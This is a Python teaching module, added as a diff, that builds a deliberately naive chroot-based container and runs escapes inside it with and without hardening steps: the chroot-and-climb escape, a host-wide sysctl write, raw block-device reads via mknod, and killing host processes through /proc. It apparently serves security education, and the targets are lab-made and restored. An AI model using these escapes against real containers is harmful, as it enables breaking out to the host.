@@ -1,0 +1,376 @@
+"""The naive DIY container of the talk, and what breaks out of it (chapter 07).
+
+"Not tremendously difficult - ~25 lines of shell script (unshare, mount,
+chroot) ... almost guaranteed to be insecure."  :func:`run` is that container
+in Python: a forked child that unshares some namespaces, mounts /proc and
+chroots into its own copy of the busybox rootfs, keeping every capability
+root has.  Each engine step a real runtime adds is one keyword, so a notebook
+can run the same attack with and without it:
+
+=================  =====================================================
+``pivot_root``     pivot_root(2) + detach the old root instead of chroot(2)
+``pid_ns``         a new PID namespace (pid_namespaces(7))
+``ro_proc_sys``    /proc/sys bind-mounted read-only (OCI ``readonlyPaths``)
+``drop``           capabilities removed from every set (capabilities(7))
+=================  =====================================================
+
+The attack is a Python function run *as the container's process* after it
+entered the container: the same syscalls a binary inside would make.
+Every target is the lab's own: a file it wrote, a read-only loop device it
+attached (auto-detached when closed), a process it started, a sysctl value it
+restores.  Nothing of the host is changed or left behind.
+"""
+from __future__ import annotations
+
+import ctypes
+import errno
+import fcntl
+import json
+import os
+import signal
+import stat
+import time
+import traceback
+from dataclasses import dataclass
+from typing import Any, Callable
+
+from . import _libc, lab, rootfs as _rootfs
+from .errors import BadInput, NeedsPrivilege
+
+# capabilities(7) numbers used by the chapter
+CAP_NUMBERS = {"CAP_CHOWN": 0, "CAP_DAC_OVERRIDE": 1, "CAP_KILL": 5, "CAP_SYS_CHROOT": 18,
+               "CAP_SYS_ADMIN": 21, "CAP_MKNOD": 27}
+
+
+@dataclass
+class Outcome:
+    """What the attack achieved: ``ok`` with its value, or the error that stopped it."""
+    ok: bool
+    value: Any = None
+    error: str = ""
+
+    def __repr__(self) -> str:
+        return f"worked: {self.value!r}" if self.ok else f"blocked: {self.error}"
+
+
+def _cap_mask(names) -> int:
+    m = 0
+    for n in names:
+        n = n.upper() if n.upper().startswith("CAP_") else "CAP_" + n.upper()
+        if n not in CAP_NUMBERS:
+            raise BadInput(f"unknown capability {n!r}: one of {', '.join(CAP_NUMBERS)}")
+        m |= 1 << CAP_NUMBERS[n]
+    return m
+
+
+class NaiveContainer:
+    """A container's folder: its own rootfs copy plus host-side files beside it.
+
+    ``<run_dir>/jap-<id>/rootfs`` is the container's ``/``; anything else in
+    ``<run_dir>/jap-<id>/`` is *outside* the container - on the host.
+    """
+
+    def __init__(self, ident: str | None = None):
+        self.name = lab.name(ident=ident)
+        self.dir = os.path.join(lab.run_dir(), self.name)
+        self.root = os.path.join(self.dir, "rootfs")
+        self.entry: lab.Entry | None = None
+
+    def create(self) -> "NaiveContainer":
+        if os.geteuid() != 0:
+            raise NeedsPrivilege("root", "a container:")
+        fs = _rootfs.build("busybox")
+        self.entry = lab.register("dir", self.dir, note="naive container (chapter 07)")
+        os.makedirs(self.dir)
+        _rootfs.extract(fs, self.root)  # tar -x, as an engine unpacks an image
+        return self
+
+    def host_file(self, name: str, text: str) -> str:
+        """A file on the host, outside the container's root: what an escape reaches."""
+        path = os.path.join(self.dir, name)
+        with open(path, "w") as f:
+            f.write(text)
+        return path
+
+    def run(self, attack: Callable[[], Any], **steps) -> Outcome:
+        return run(self.root, attack, **steps)
+
+    def remove(self) -> None:
+        if self.entry:
+            lab.remove(self.entry)
+            self.entry = None
+
+    def __enter__(self):
+        return self.create()
+
+    def __exit__(self, *exc):
+        self.remove()
+
+
+def _enter(root: str, pivot_root: bool, ro_proc_sys: bool, drop_mask: int, hostname: str) -> None:
+    """In the container's process: mounts, the jump into the rootfs, capabilities."""
+    # A private copy of the mount table, so nothing we mount reaches the host
+    # (mount_namespaces(7), "Shared subtrees"; KERNEL-NOTES: make / private first).
+    _libc.mount(None, "/", None, _libc.MS_REC | _libc.MS_PRIVATE)
+    _libc.sethostname(hostname)
+    if pivot_root:
+        # pivot_root(2): the rootfs becomes / and the old root is detached -
+        # there is no longer anything above / to climb to.
+        _libc.mount(root, root, None, _libc.MS_BIND | _libc.MS_REC)
+        os.chdir(root)
+        _libc.pivot_root(".", ".")
+        _libc.umount2(".", _libc.MNT_DETACH)
+        os.chdir("/")
+    else:
+        # The naive jump: chroot(2) only changes how "/" is resolved for this
+        # process; the host's tree is still mounted above it.
+        os.chroot(root)
+        os.chdir("/")
+    _libc.mount("proc", "/proc", "proc", _libc.MS_NOSUID | _libc.MS_NODEV | _libc.MS_NOEXEC)
+    if ro_proc_sys:
+        # OCI readonlyPaths: bind /proc/sys onto itself, then remount it read-only.
+        _libc.mount("/proc/sys", "/proc/sys", None, _libc.MS_BIND | _libc.MS_REC)
+        _libc.mount(None, "/proc/sys", None,
+                    _libc.MS_BIND | _libc.MS_REMOUNT | _libc.MS_RDONLY | _libc.MS_REC)
+    if drop_mask:
+        # Out of the bounding set (effective after the next execve) and, at once,
+        # out of effective/permitted (capset(2), prctl(2) PR_CAPBSET_DROP).
+        for bit in range(64):
+            if drop_mask >> bit & 1:
+                _libc.prctl(_libc.PR_CAPBSET_DROP, bit)
+        eff, prm, inh = _libc.capget()
+        _libc.capset(eff & ~drop_mask, prm & ~drop_mask, inh & ~drop_mask)
+
+
+def run(root: str, attack: Callable[[], Any], *, pivot_root: bool = False, pid_ns: bool = False,
+        ro_proc_sys: bool = False, drop: tuple[str, ...] = (), timeout: float = 10.0) -> Outcome:
+    """Run ``attack()`` as the process of a naive container rooted at ``root``.
+
+    The container always gets new mount, UTS and IPC namespaces (what
+    ``unshare -mui`` gives) and keeps the network namespace of the host; the
+    keywords add the engine steps of the module's table.  The attack's return
+    value (JSON-able) comes back in ``Outcome.value``; an ``OSError`` it raises
+    comes back as ``Outcome.error`` ("EPERM: ...").
+    """
+    if os.geteuid() != 0:
+        raise NeedsPrivilege("root", "a container:")
+    if not os.path.isdir(os.path.join(root, "proc")):
+        raise BadInput(f"{root!r} is not a root filesystem (no /proc folder in it)")
+    drop_mask = _cap_mask(drop)
+    flags = _libc.CLONE_NEWNS | _libc.CLONE_NEWUTS | _libc.CLONE_NEWIPC
+    r, w = os.pipe()
+    pid = os.fork()
+    if pid == 0:  # the container's first process
+        os.close(r)
+        code = 0
+        try:
+            _libc.prctl(_libc.PR_SET_PDEATHSIG, signal.SIGKILL)
+            _libc.unshare(flags | (_libc.CLONE_NEWPID if pid_ns else 0))
+            if pid_ns:
+                # pid_namespaces(7): the caller stays outside; its next child is PID 1.
+                inner = os.fork()
+                if inner:
+                    _, st = os.waitpid(inner, 0)
+                    os._exit(os.waitstatus_to_exitcode(st) & 0xFF)
+            _enter(root, pivot_root, ro_proc_sys, drop_mask, "jap-naive")
+            try:
+                msg = {"ok": True, "value": attack()}
+            except OSError as exc:
+                name = errno.errorcode.get(exc.errno or 0, "E?")
+                msg = {"ok": False, "error": f"{name}: {exc.strerror}"}
+            os.write(w, json.dumps(msg, default=str).encode())
+        except BaseException:  # noqa: BLE001 - report anything to the parent, never return
+            try:
+                os.write(w, json.dumps({"ok": False, "error": "setup failed: "
+                                        + traceback.format_exc(limit=2)}).encode())
+            except OSError:
+                pass
+            code = 1
+        os._exit(code)
+    os.close(w)
+    data = b""
+    deadline = time.monotonic() + timeout
+    try:
+        while time.monotonic() < deadline:
+            chunk = os.read(r, 65536)
+            if not chunk:
+                break
+            data += chunk
+    finally:
+        os.close(r)
+        try:
+            os.kill(pid, signal.SIGKILL)
+        except ProcessLookupError:
+            pass
+        os.waitpid(pid, 0)
+    try:
+        return Outcome(**json.loads(data))
+    except ValueError:
+        return Outcome(False, error="the container said nothing (killed?)")
+
+
+# --- the attacks: each runs inside the container --------------------------------------
+
+def chroot_escape(secret: str, depth: int = 64) -> Callable[[], str]:
+    """The classic chroot(2) escape: chroot into a subfolder *without* chdir,
+    so the working directory is now above the root; climb with ``..``; chroot
+    there.  Needs CAP_SYS_CHROOT (chroot(2), "This call does not change the
+    current working directory")."""
+    def attack() -> str:
+        os.makedirs("/jap-escape", exist_ok=True)
+        os.chroot("/jap-escape")         # cwd (/) is now outside the root
+        for _ in range(depth):
+            os.chdir("..")               # .. of the real / is / itself
+        os.chroot(".")                   # the host's /
+        with open(secret) as f:
+            return f.read().strip()
+    return attack
+
+
+SYSCTL = "/proc/sys/kernel/printk_ratelimit_burst"
+
+
+def sysctl_write(path: str = SYSCTL, value: int | None = None) -> Callable[[], int]:
+    """Write a kernel-wide (not namespaced) sysctl from inside: returns the value written.
+
+    The default target, kernel.printk_ratelimit_burst, only tunes how many
+    kernel messages pass the rate limit: harmless, and :func:`restore_sysctl`
+    puts the old value back (sysctl(2), Documentation/admin-guide/sysctl/kernel.rst)."""
+    def attack() -> int:
+        with open(path) as f:
+            old = int(f.read())
+        new = value if value is not None else old + 1
+        with open(path, "w") as f:
+            f.write(str(new))
+        return new
+    return attack
+
+
+def read_sysctl(path: str = SYSCTL) -> int:
+    with open(path) as f:
+        return int(f.read())
+
+
+def restore_sysctl(old: int, path: str = SYSCTL) -> None:
+    if read_sysctl(path) != old:
+        with open(path, "w") as f:
+            f.write(str(old))
+
+
+def mknod_read(major: int, minor: int, nbytes: int = 64) -> Callable[[], str]:
+    """mknod(2) a block device node inside the container and read its first bytes."""
+    def attack() -> str:
+        node = "/dev/jap-disk"
+        if os.path.exists(node):
+            os.unlink(node)
+        os.mknod(node, stat.S_IFBLK | 0o600, os.makedev(major, minor))
+        with open(node, "rb") as f:
+            return f.read(nbytes).rstrip(b"\0").decode(errors="replace")
+    return attack
+
+
+def kill_by_cmdline(needle: str) -> Callable[[], dict]:
+    """Look through /proc for a process whose command line holds ``needle`` and SIGKILL it."""
+    def attack() -> dict:
+        pids = [int(p) for p in os.listdir("/proc") if p.isdigit()]
+        for p in pids:
+            try:
+                with open(f"/proc/{p}/cmdline", "rb") as f:
+                    cmd = f.read().replace(b"\0", b" ").decode(errors="replace").strip()
+            except OSError:
+                continue
+            if needle in cmd:
+                os.kill(p, signal.SIGKILL)
+                return {"processes seen": len(pids), "killed": cmd}
+        raise OSError(errno.ESRCH, f"no process matching {needle!r} among {len(pids)} seen")
+    return attack
+
+
+# --- a lab-made "host disk": a read-only loop device ----------------------------------
+
+# include/uapi/linux/loop.h
+LOOP_CTL_GET_FREE = 0x4C82
+LOOP_CONFIGURE = 0x4C0A
+LO_FLAGS_READ_ONLY = 1
+LO_FLAGS_AUTOCLEAR = 4
+
+
+class _LoopInfo64(ctypes.Structure):
+    _fields_ = [("lo_device", ctypes.c_uint64), ("lo_inode", ctypes.c_uint64),
+                ("lo_rdevice", ctypes.c_uint64), ("lo_offset", ctypes.c_uint64),
+                ("lo_sizelimit", ctypes.c_uint64), ("lo_number", ctypes.c_uint32),
+                ("lo_encrypt_type", ctypes.c_uint32), ("lo_encrypt_key_size", ctypes.c_uint32),
+                ("lo_flags", ctypes.c_uint32), ("lo_file_name", ctypes.c_uint8 * 64),
+                ("lo_crypt_name", ctypes.c_uint8 * 64), ("lo_encrypt_key", ctypes.c_uint8 * 32),
+                ("lo_init", ctypes.c_uint64 * 2)]
+
+
+class _LoopConfig(ctypes.Structure):
+    _fields_ = [("fd", ctypes.c_uint32), ("block_size", ctypes.c_uint32),
+                ("info", _LoopInfo64), ("reserved", ctypes.c_uint64 * 8)]
+
+
+class HostDisk:
+    """A read-only loop device over a lab file: a stand-in for a host disk.
+
+    Configured with LO_FLAGS_AUTOCLEAR (loop(4)): the kernel detaches the
+    device when its last user closes it - this object's fd, or this process
+    when it dies - so it can never be left behind.
+    """
+
+    def __init__(self, backing: str, text: str):
+        self.backing = backing
+        self.text = text
+        self.fd: int | None = None
+        self.path = ""
+        self.major = self.minor = 0
+
+    def attach(self) -> "HostDisk":
+        if not os.path.basename(os.path.dirname(self.backing)).startswith(lab.PREFIX):
+            raise BadInput("the backing file must be in a lab folder (jap-...)")
+        with open(self.backing, "wb") as f:
+            f.write(self.text.encode().ljust(1 << 20, b"\0"))  # 1 MiB
+        ctl = os.open("/dev/loop-control", os.O_RDWR | os.O_CLOEXEC)
+        back = os.open(self.backing, os.O_RDONLY | os.O_CLOEXEC)
+        try:
+            for _ in range(10):  # another user may take the free device first
+                n = fcntl.ioctl(ctl, LOOP_CTL_GET_FREE)
+                fd = os.open(f"/dev/loop{n}", os.O_RDONLY | os.O_CLOEXEC)
+                cfg = _LoopConfig(fd=back, block_size=0)
+                cfg.info.lo_flags = LO_FLAGS_READ_ONLY | LO_FLAGS_AUTOCLEAR
+                try:
+                    fcntl.ioctl(fd, LOOP_CONFIGURE, cfg)
+                except OSError as exc:
+                    os.close(fd)
+                    if exc.errno == errno.EBUSY:
+                        continue
+                    raise
+                self.fd, self.path = fd, f"/dev/loop{n}"
+                st = os.stat(self.path)
+                self.major, self.minor = os.major(st.st_rdev), os.minor(st.st_rdev)
+                return self
+            raise OSError(errno.EBUSY, "no free loop device")
+        finally:
+            os.close(back)
+            os.close(ctl)
+
+    def detach(self) -> None:
+        if self.fd is not None:
+            os.close(self.fd)  # autoclear: the last close detaches the device
+            self.fd = None
+
+    def __enter__(self):
+        return self.attach()
+
+    def __exit__(self, *exc):
+        self.detach()
+
+
+def loop_attached(path: str) -> bool:
+    """Is a loop device bound to a file? (sysfs: /sys/block/loopN/loop/ exists only then)."""
+    return os.path.isdir(f"/sys/block/{os.path.basename(path)}/loop")
+
+
+__all__ = ["NaiveContainer", "Outcome", "run", "chroot_escape", "sysctl_write", "read_sysctl",
+           "restore_sysctl", "mknod_read", "kill_by_cmdline", "HostDisk", "loop_attached",
+           "SYSCTL"]
